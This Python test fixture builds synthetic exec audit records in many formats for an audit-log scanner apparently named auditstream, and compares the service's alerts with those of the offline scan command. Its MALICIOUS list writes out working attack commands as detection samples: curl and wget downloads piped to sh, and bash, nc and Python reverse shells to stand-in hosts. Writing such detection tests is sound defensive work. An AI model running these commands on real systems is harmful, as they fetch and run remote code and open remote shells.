"""Test corpora of audit records in every input shape, and what ``auditstream scan`` makes of them.

The expected alerts come from the real offline command (``python -m auditstream.stream scan``) run on the
same records written as JSON lines: the service must give exactly those alert ids.
"""

from __future__ import annotations

import json
import random
import subprocess
import sys
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from devtools.jvm.process import REPO_ROOT
from devtools.traffic.exec_uris import Client
from devtools.traffic.synthetic import (
    as_ecs,
    as_event_list,
    as_wrapped,
    exec_audit_events,
    routine_audit_event,
)

START = datetime(2025, 1, 15, 10, 0, tzinfo=UTC)
MALICIOUS: tuple[tuple[str, ...], ...] = (
    ("sh", "-c", "curl -fsSL https://evil.example/x.sh | sh"),
    ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("sh", "-c", "wget -qO- https://203.0.113.9/payload | sh"),
    ("nc", "-e", "/bin/sh", "203.0.113.7", "4444"),
    ("python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',443));"
     "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"),
)  # fmt: skip
BENIGN: tuple[tuple[str, ...], ...] = (
    ("ls", "-la", "/app"),
    ("cat", "/etc/hostname"),
    ("sh", "-c", "curl -s http://localhost:8080/healthz"),
    ("env",),
)
CLIENTS: tuple[Client, ...] = ("kubectl", "javascript", "rancher", "python")
Shape = Callable[[list[dict[str, Any]]], list[object]]
SHAPES: dict[str, Shape] = {
    "raw": list,
    "event_list": lambda events: [as_event_list(events)],
    "array": lambda events: [events],
    "ecs": lambda events: [as_ecs(e, layout="nested") for e in events],
    "ecs_flattened": lambda events: [as_ecs(e, layout="flattened") for e in events],
    "ecs_mixed": lambda events: [as_ecs(e, layout="mixed") for e in events],
    "wrapped_log": lambda events: [as_wrapped(e, "log") for e in events],
    "wrapped_message": lambda events: [as_wrapped(e, "message") for e in events],
}


def encode(obj: object) -> bytes:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False).encode()


def build_corpus(
    *, execs: int, routine: int, seed: int = 7, shapes: Sequence[str] = tuple(SHAPES)
) -> list[bytes]:
    """Exec requests (malicious and benign, every client, cycling through ``shapes``) with their
    stages spread among routine events; one Kafka record value per element."""
    rng = random.Random(seed)
    records: list[bytes] = []
    execs_left, routine_left = execs, routine
    moment = START
    index = 0
    while execs_left or routine_left:
        moment += timedelta(milliseconds=rng.randint(1, 50))
        if execs_left and rng.random() < execs_left / (execs_left + routine_left):
            execs_left -= 1
            pool = MALICIOUS if index % 2 == 0 else BENIGN
            events = exec_audit_events(
                command=pool[(index // 2) % len(pool)],
                client=CLIENTS[index % len(CLIENTS)],
                rng=rng,
                start=moment,
            )
            records.extend(encode(o) for o in SHAPES[shapes[index % len(shapes)]](events))
            index += 1
        else:
            routine_left -= 1
            records.append(encode(routine_audit_event(rng, moment)))
    return records


def scan_alert_ids(records: Sequence[bytes], workdir: Path) -> list[str]:
    """The alert ids that ``auditstream scan`` gives on the records (run as a real process)."""
    path = workdir / "corpus.jsonl"
    path.write_bytes(b"".join(r + b"\n" for r in records))
    done = subprocess.run(
        [sys.executable, "-m", "auditstream.stream", "scan", str(path)],
        capture_output=True,
        cwd=REPO_ROOT,
        check=True,
        timeout=600,
    )
    return [json.loads(line)["alert_id"] for line in done.stdout.decode().splitlines() if line]
